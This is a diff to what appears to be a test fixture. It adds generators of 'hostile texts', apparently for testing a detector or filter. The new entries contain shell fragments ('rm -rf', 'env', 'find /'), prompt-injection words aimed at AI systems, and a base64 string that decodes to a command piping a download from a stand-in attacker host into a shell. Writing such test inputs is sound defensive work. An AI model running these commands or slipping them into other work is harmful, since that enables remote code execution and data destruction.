@@ -127,6 +127,10 @@ const hostileTexts: Readonly<Record<string, Writer>> = {
   "lines that all differ": (size) =>
     Array.from({ length: size / 8 }, (_, at) => at.toString(36).padStart(7, "0")).join("\n"),
   "bytes of a secret": around("", "s3cr"),
+  "commands of a shell": around("", "curl wget sudo rm -rf env | find / "),
+  "words of an instruction": around("", "never without ignore all the send to "),
+  "instructions in base64": around("", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= "),
+  "addresses of the web": (size) => Array.from({ length: size / 16 }, (_, at) => `https://a${at}.b`).join(" "),
   "odd characters": (size, chance) => Array.from({ length: size }, () => pick(oddCharacters, chance())).join(""),
   "a soup of all": soup,
 };
